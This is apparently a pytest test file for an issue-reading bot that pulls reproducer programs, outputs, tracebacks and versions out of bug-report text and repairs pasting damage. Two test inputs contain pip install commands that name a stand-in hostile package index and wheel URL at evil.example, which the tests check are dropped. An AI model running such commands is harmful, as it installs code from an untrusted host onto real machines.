"""Programs in reports: found wherever they stand, cleaned, and each change written down."""

from __future__ import annotations

import ast

import pytest

from bot.issues.reading.issue import read_issue
from bot.issues.script_fixes import call_entry
from bot.kernel.bug import BugReport, Fence, FenceKind, Issue, Role


def report(
    body: str, title: str = "Something breaks", repository: str = "pytorch/pytorch"
) -> BugReport:
    return read_issue(Issue(title=title, body=body, repository=repository))


def program(body: str) -> Fence:
    found = report(body).programs
    assert len(found) == 1
    ast.parse(found[0].text)
    return found[0]


def test_notebook_commands_become_installs() -> None:
    fence = program(
        '### Reproduction\n\n```\n!pip install -q transformers==4.38.2 "datasets>=2.0" -i https://evil.example/simple\n%matplotlib inline\n'
        "from transformers import WhisperConfig\nprint(WhisperConfig(d_model=16))\n```\n"
    )
    assert fence.installs == ("transformers==4.38.2", "datasets>=2.0")
    assert fence.role is Role.REPRODUCER
    assert any("matplotlib" in line for line in fence.text.split("\n") if line.startswith("#"))
    assert fence.fixes


def test_a_text_in_a_program_keeps_its_lines() -> None:
    fence = program(
        '```python\n%pip install lark\nfrom lark import Lark\ngrammar = """\n    start: NUM\n    %import common.NUM\n    %ignore " "\n"""\nprint(Lark(grammar).parse("1"))\n```'
    )
    assert "\n    %import common.NUM\n    %ignore" in fence.text
    assert fence.text.startswith("# %pip")


def test_links_are_not_taken_as_requirements() -> None:
    fence = program(
        "```\n!pip install torch==2.1.0 git+https://github.com/a/b 'x @ https://evil.example/x.whl'\nimport torch\ntorch.ones(1)\n```"
    )
    assert fence.installs == ("torch==2.1.0",)


def test_doctest_keeps_outputs_and_prints_values() -> None:
    body = (
        "```python\n>>> import torch\n>>> x = torch.full((3,), 200, dtype=torch.uint8)\n>>> for i in range(2):\n...     y = x + i\n...\n"
        ">>> x.sum()\ntensor(88, dtype=torch.uint8)\n>>> print(x.cumsum(0))\ntensor([200, 144,  88], dtype=torch.uint8)\n```\n\nExpected: `tensor([200, 400, 600])`"
    )
    fence = program(body)
    assert fence.outputs == (
        "tensor(88, dtype=torch.uint8)",
        "tensor([200, 144,  88], dtype=torch.uint8)",
    )
    assert "print(repr(x.sum()))" in fence.text
    assert [(o.text, o.role, o.line) for o in report(body).outputs] == [
        ("tensor(88, dtype=torch.uint8)", "observed", 8),
        ("tensor([200, 144,  88], dtype=torch.uint8)", "observed", 10),
        ("tensor([200, 400, 600])", "expected", 13),
    ]


def test_ipython_session() -> None:
    fence = program(
        "In a notebook:\n\n```\nIn [1]: import jax.numpy as jnp\n\nIn [2]: def f(x):\n   ...:     return jnp.log(x)\n\nIn [4]: f(jnp.array(-1.))\nOut[4]: Array(nan, dtype=float32)\n```"
    )
    assert fence.outputs == ("Array(nan, dtype=float32)",)
    assert fence.text.endswith("print(repr(f(jnp.array(-1.))))")


def test_transcript_with_a_traceback_gives_both() -> None:
    found = report(
        '```\n>>> import numpy as np\n>>> np.ones(3).reshape(2)\nTraceback (most recent call last):\n  File "<stdin>", line 1, in <module>\nValueError: cannot reshape array of size 3 into shape (2,)\n```'
    )
    assert found.fences[0].kind is FenceKind.PROGRAM
    assert found.fences[0].text == "import numpy as np\nnp.ones(3).reshape(2)"
    assert found.tracebacks[0].message == "cannot reshape array of size 3 into shape (2,)"
    assert found.tracebacks[0].line == 4


def test_prose_and_output_inside_the_fence() -> None:
    body = (
        "```python\nimport torch\nFirst we create the model with a projection\nm = torch.nn.LSTM(4, 8, proj_size=2)\nThen the forward pass works fine as you can see here:\n"
        "out, _ = m(torch.zeros(1, 1, 4))\nprint(out.shape)\n\nOutput:\ntorch.Size([1, 1, 8])\n```\nbut I would expect `torch.Size([1, 1, 2])`."
    )
    fence = program(body)
    assert fence.text.split("\n")[1] == "# First we create the model with a projection"
    assert [(o.text, o.role) for o in report(body).outputs] == [
        ("torch.Size([1, 1, 8])", "observed"),
        ("torch.Size([1, 1, 2])", "expected"),
    ]


def test_traceback_pasted_below_the_code() -> None:
    found = report(
        "```py\nimport flax.linen as nn\nimport jax\nnn.Dense(3).apply({}, jax.numpy.ones((2, 2)))\n\nTraceback (most recent call last):\n"
        '  File "/tmp/x.py", line 3, in <module>\n    nn.Dense(3).apply({}, jax.numpy.ones((2, 2)))\n  File "/usr/lib/python3.11/site-packages/flax/linen/module.py", line 1511, in apply\n'
        '    return apply(\nflax.errors.ScopeParamNotFoundError: Could not find parameter named "kernel" in scope "/".\n```'
    )
    assert "Traceback" not in found.programs[0].text
    assert found.tracebacks[0].exception == "flax.errors.ScopeParamNotFoundError"
    assert found.tracebacks[0].frames[-1].module_path == "flax/linen/module.py"
    assert ("python", "3.11") in {(v.name, v.version) for v in found.versions}


def test_comments_that_state_outputs() -> None:
    found = report(
        '```python\nimport torch\nx = torch.full((2, 2), float("-inf"))\nprint(torch.softmax(x, -1))  # tensor([[nan, nan], [nan, nan]])\nprint(x.sum())  # expected: 0, got -inf\n'
        "print(x.dim())  # prints 2\ny = torch.ones(2)  # plain\n# -> 3\n```"
    )
    assert [(o.text, o.role, o.line) for o in found.outputs] == [
        ("tensor([[nan, nan], [nan, nan]])", "observed", 4),
        ("0", "expected", 5),
        ("-inf", "observed", 5),
        ("2", "observed", 6),
        ("3", "observed", 8),
    ]


@pytest.mark.parametrize(
    ("body", "text"),
    [
        (
            "```\n1  import numpy as np\n2\n3  x = np.arange(6)\n4  print(x)\n```",
            "import numpy as np\n\nx = np.arange(6)\nprint(x)",
        ),
        (
            "```python\nt\u00a0= open(\u201ca\u201d)\nprint(t, \u2018b\u2019)\n```",
            "t = open(\"a\")\nprint(t, 'b')",
        ),
        (
            "```\nimport torch\n    x = torch.ones(3)\n    if True:\n        x.sum()\n    print(x)\n```",
            "import torch\nx = torch.ones(3)\nif True:\n    x.sum()\nprint(x)",
        ),
        (
            "```\n    import torch\n    print(torch.ones(1))\n```",
            "import torch\nprint(torch.ones(1))",
        ),
        (
            "```\nif True:\n\tx = open('a')\n        print(x)\n```",
            "if True:\n    x = open('a')\n    print(x)",
        ),
        (
            "```python\nimport torch\na = torch.ones(1)\na.std()\ntensor(nan)\nb = a.var()\n```",
            "import torch\na = torch.ones(1)\nprint(repr(a.std()))\n# tensor(nan)\nb = a.var()",
        ),
        (
            "```python\nimport numpy as np\nprint(np.ones(2).sum())\n>>> 2.0\n```",
            "import numpy as np\nprint(np.ones(2).sum())\n# >>> 2.0",
        ),
        ("~~~py\nimport os\nos.getcwd()\n~~~", "import os\nos.getcwd()"),
        (
            "- step one\n\n  ```python\n  import os\n  os.getcwd()\n  ```\n",
            "import os\nos.getcwd()",
        ),
        ("> ```python\n> import os\n> os.getcwd()\n> ```\n", "import os\nos.getcwd()"),
        ("To reproduce\n\n    import os\n    os.getcwd()\n\nthat is all", "import os\nos.getcwd()"),
        ("```python\nimport os\nos.getcwd()\n\n### Versions\n\nos 1.2.3", "import os\nos.getcwd()"),
        ("Code: ```import os\nos.getcwd()```\n\nfails", "import os\nos.getcwd()"),
        (
            "<pre><code>import os\nprint(os.name &lt; 3)\n</code></pre>",
            "import os\nprint(os.name < 3)",
        ),
        (
            '```bash\n$ python -c "import os; print(os.name)"\nposix\n```',
            "import os; print(os.name)",
        ),
        ("```shell\npython - <<'EOF'\nimport os\nos.getcwd()\nEOF\n```", "import os\nos.getcwd()"),
        (
            "```python\ndef f(self, ...):\n    return self.x()\n```",
            "def f(self, *args, **kwargs):\n    return self.x()",
        ),
    ],
)
def test_damage_from_pasting(body: str, text: str) -> None:
    fence = program(body)
    assert fence.text == text
    assert report(f"```python\n{fence.text}\n```").programs[0].text == text


def test_program_without_a_fence() -> None:
    found = report(
        "Here is my code:\n\nimport torch\nfrom lion_pytorch import Lion\n\n# a model\nmodel = torch.nn.Linear(3, 1)\nfor _ in range(3):\n    loss = model(torch.ones(2, 3)).mean()\n"
        'print(loss)\n\nAnd this is what I get:\n\nTraceback (most recent call last):\n  File "/home/x/a.py", line 6, in <module>\n    opt = Lion(model.parameters(), lr=0)\n'
        '  File "/home/x/venv/lib/python3.9/site-packages/lion_pytorch/lion_pytorch.py", line 40, in __init__\n    assert lr > 0.\nAssertionError\n\nThat is all.'
    )
    assert found.programs[0].text.startswith("import torch")
    assert found.programs[0].text.endswith("print(loss)")
    assert found.programs[0].line == 3
    assert found.tracebacks[0].exception == "AssertionError"
    assert found.tracebacks[0].message == ""
    assert found.tracebacks[0].frames[-1].code == "assert lr > 0."


@pytest.mark.parametrize(
    "output",
    [
        "foobaz",
        "nan",
        "1 2",
        "get_num_hops:  1\nactual hops:  2",
        "tensor([1., 2.])",
        "torch.Size([2, 3])",
        "loss: nan",
        "True",
        "[1, 2, 3]",
        "Data(x=[4, 2], y=[4])",
    ],
)
def test_output_that_parses_is_still_output(output: str) -> None:
    found = report(f"```python\nimport torch\nprint(torch.ones(1))\n```\n\n```\n{output}\n```\n")
    assert [fence.kind for fence in found.fences] == [FenceKind.PROGRAM, FenceKind.OUTPUT]
    assert found.fences[1].role is Role.OBSERVED
    assert [o.text for o in found.outputs] == [output]


def test_hidden_comments_do_not_count() -> None:
    found = report(
        "<!-- ```python\nimport os\nos.getcwd()\n``` torch 1.2.3 RuntimeError: hidden -->\nvisible"
    )
    assert found.fences == ()
    assert found.tracebacks == ()
    assert found.versions == ()


def test_two_endings_of_one_program_are_left_to_a_reader() -> None:
    body = (
        "The behaviour has changed.\n```py\nimport numpy as np\nprint(np.__version__) # 2.2.6\n"
        "t = np.array(9, dtype='uint4') # TypeError: data type 'uint4' not understood\n```\n"
        "```py\nimport numpy as np\nprint(np.__version__) # 2.3.2\n"
        "t = np.array(9, dtype='uint4') # array(9, dtype=uint4)\n```\n"
    )
    twice = read_issue(Issue(title="It is accepted, should it be?", body=body, repository="a/b"))
    assert twice.tracebacks == ()
    once = body.partition("```\n```py")[0] + "```\n"
    (failure,) = read_issue(Issue(title="It fails", body=once, repository="a/b")).tracebacks
    assert failure.exception == "TypeError"


@pytest.mark.parametrize("mark", [". # works", ".", "..  # fine"])
def test_the_full_stop_behind_a_statement_is_removed(mark: str) -> None:
    fence = program(f"```python\nimport torch\n\nf(x){mark}\ntorch.tanh(x)  # fails\n```")
    assert fence.text.split("\n")[2].partition("#")[0].strip() == "f(x)"
    assert [fix.why for fix in fence.fixes] == ["it ends a sentence, not a statement"]


@pytest.mark.parametrize(
    ("mark", "value"),
    [("Out[3]: ", "nan"), (">>", "[0.2, 0.25,\n       0.8]"), ("=> ", "(2, 3)"), ("--> ", "3")],
)
def test_a_value_behind_a_mark_is_an_output(mark: str, value: str) -> None:
    found = report(f"```python\nfrom lib import f\nf(1)\n{mark}{value}\nf(2)\n```\n")
    (fence,) = found.programs
    assert [ast.unparse(node) for node in ast.parse(fence.text).body][1:] == ["f(1)", "f(2)"]
    assert [row.text for row in found.outputs] == [value]


BARE = """It worked last week.

y, sr = librosa.load("a.mp3")
y = librosa.resample(y, sr, 44100)

TypeError: resample() takes 1 positional argument but 3 were given
"""


def test_a_program_without_a_fence_needs_no_imports_that_everybody_knows() -> None:
    fence = program(BARE)
    assert fence.text.split("\n") == BARE.split("\n")[2:4]


@pytest.mark.parametrize(
    "body",
    [
        "lr = 0.1\nbatch = 32\n",
        "loss = tensor(1.5)\nacc = tensor(0.5)\n",
        "Call model.fit(x) first.\nThen model.predict(y).\n",
        "np.zeros(3)\n",
        "a = f(1)\nb = g(a)\n",
    ],
)
def test_lines_that_may_be_anything_are_no_program(body: str) -> None:
    assert not report(body).programs


def test_a_program_without_a_fence_may_call_what_the_repository_is_called() -> None:
    body = "Example:\nX = [[0, 0], [1, 1]]\ny = [0, 1]\n\ncelery_fit(X, y, alpha=0.1) raises an error\n"
    assert not report(body, repository="acme/other").programs
    (fence,) = report(body, repository="acme/celery_fit").programs
    assert fence.text.endswith("celery_fit(X, y, alpha=0.1)  # raises an error")


@pytest.mark.parametrize(
    ("line", "comment"),
    [
        ("np.take([1], 7) -> IndexError: index 7", "np.take([1], 7)  # -> IndexError: index 7"),
        ("np.take([1], 7) <<< error", "np.take([1], 7)  # <<< error"),
        ("x = np.take([1], 7) --> fails", "x = np.take([1], 7)  # --> fails"),
        ("np.take([1], 7) raises an IndexError", "np.take([1], 7)  # raises an IndexError"),
    ],
)
def test_words_beside_a_statement_become_a_comment(line: str, comment: str) -> None:
    fence = program(f"```\nimport numpy as np\n{line}\nnp.take([1], 0)\n```\n")
    assert fence.text.split("\n")[1] == comment
    assert any("into a comment" in fix.what for fix in fence.fixes)


def test_what_fails_before_another_that_works_is_the_reproducer() -> None:
    code = "```python\nimport numpy as np\nnp.take([1], 7)\n```\n"
    assert program("The code throws an error, but doesn't fail in torch:\n" + code).role is (
        Role.REPRODUCER
    )
    assert program("This works, but not below:\n" + code).role is not Role.REPRODUCER


def test_a_test_without_its_class_is_a_program() -> None:
    code = (
        "def test_take(self):\n    with self.assertRaises(ValueError):\n        np.take([1], 0)\n"
    )
    fence = program(f"### Standalone code\n\n```shell\n{code}```\n")
    assert fence.role is not Role.SOURCE
    text, fixes = call_entry(fence.text)
    assert len(fixes) == 1
    with pytest.raises(AssertionError, match="ValueError not raised"):
        exec(compile(text, "repro.py", "exec"), {"__name__": "__main__", "np": numpy_like()})


def numpy_like() -> object:
    return type("np", (), {"take": staticmethod(lambda values, at: values[at])})


def test_print_statements_are_written_as_calls() -> None:
    code = 'import numpy as np\na = np.zeros(3)\nprint a\nfor i in a: print "x %d" % i, i\nif 1:\n    print "b",\n'
    fence = program(f"```python\n{code}```\n")
    assert fence.text.count("print(") == 3
    assert 'print("x %d" % i, i)' in fence.text


def test_an_entry_at_a_prompt_goes_on_to_its_last_bracket() -> None:
    fence = program(
        "```\n>>> a = np.array(\n    [1, 2],\n    dtype='f'\n)\n>>> a.go()\n"
        "AttributeError: 'numpy.ndarray' object has no attribute 'go'\n```\n"
    )
    assert fence.text == "a = np.array(\n    [1, 2],\n    dtype='f'\n)\nprint(repr(a.go()))"


def test_a_session_is_a_program_whatever_its_tag() -> None:
    fence = program("```javascript\nIn [1]: d = csr_matrix((4, 4))\nIn [2]: d.go()\n```\n")
    assert fence.text.startswith("d = csr_matrix((4, 4))")
